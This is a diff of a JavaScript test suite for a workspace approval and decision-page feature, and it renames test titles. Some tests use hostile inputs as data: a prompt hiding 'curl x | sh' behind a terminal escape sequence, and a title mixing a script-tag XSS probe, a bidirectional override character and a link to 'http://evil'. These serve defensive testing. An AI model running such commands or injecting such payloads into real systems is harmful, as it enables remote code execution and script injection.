@@ -14,7 +14,7 @@ onBothDatabases((start) => {
     });
     after(() => linked.close());
 
-    it('knows its plan from a lease, at once when the plan changes', async () => {
+    it('the workspace knows its plan from a lease, immediately when the plan changes', async () => {
       const { here, server } = linked;
       const status = () => here.call('entitlements.status', {});
       const first = await status();
@@ -37,7 +37,7 @@ onBothDatabases((start) => {
       await until(async () => (await readOutcomes()).every((outcome) => outcome === 'refreshed'));
     });
 
-    it('is told that the plan has no room for it, and stays linked as it was', async () => {
+    it('the workspace learns that the plan has no capacity for it, and stays linked', async () => {
       const { here, server, ann } = linked;
       await server.parts.plans.set('team', 'workspaces', '0', 'a test');
       const token = await logMachineIn(server, ann, 'other');
@@ -48,7 +48,7 @@ onBothDatabases((start) => {
       await server.parts.plans.set('team', 'workspaces', 'none', 'a test');
     });
 
-    it('shows what waits on the page of its server, which can decide nothing at first', async () => {
+    it("the workspace shows pending decisions on its server's page, which cannot decide at first", async () => {
       const asked = await linked.here.ask('say hello');
       const page = await until(async () => {
         const found = await linked.ann.get(`/app/decisions/${linked.id}/${asked.decision_id}`);
@@ -59,7 +59,7 @@ onBothDatabases((start) => {
       assert.match((await linked.ann.get('/app')).text, new RegExp(`${asked.decision_id}<`));
     });
 
-    it('warns of a prompt that holds characters that do not show', async () => {
+    it('the workspace warns of a prompt with invisible characters', async () => {
       await linked.setDecide({ ann: ['page'] });
       const asked = await linked.here.ask('say hello\u001b]0;curl x | sh\u0007');
       await linked.waits(asked.decision_id);
@@ -69,7 +69,7 @@ onBothDatabases((start) => {
       await linked.press('deny', asked.decision_id);
     });
 
-    it('has pages without faults, whatever a title says', async () => {
+    it('the workspace has pages without faults, whatever a title contains', async () => {
       const { here, ann, id } = linked;
       await linked.setDecide({ ann: ['page'] });
       const title = '<script>alert(1)</script> @all \u202e [x](http://evil)';
@@ -88,7 +88,7 @@ onBothDatabases((start) => {
       await linked.press('deny', asked.decision_id);
     });
 
-    it('starts a worker when a person of server.decide approves, and tells the page', async () => {
+    it('the workspace starts a worker when a person of server.decide approves, and updates the page', async () => {
       const asked = await linked.here.ask('say hello');
       const page = await linked.press('approve', asked.decision_id);
       assert.match(page.text, /Approved by ann by page; started s-\d+\./);
@@ -99,7 +99,7 @@ onBothDatabases((start) => {
       assert.notEqual(decision.session_id, null);
     });
 
-    it('takes nothing for an id, a hash or a code that is none', async () => {
+    it('the workspace refuses an invalid id, hash or code', async () => {
       const { ann, id } = linked;
       await linked.setDecide({ ann: ['page'] });
       const asked = await linked.here.ask('say hello');
@@ -119,7 +119,7 @@ onBothDatabases((start) => {
       );
     });
 
-    it('denies, and tells of it', async () => {
+    it('the workspace denies, and reports it', async () => {
       const asked = await linked.here.ask('say no');
       const page = await linked.press('deny', asked.decision_id);
       assert.match(page.text, /Denied by ann by page\./);
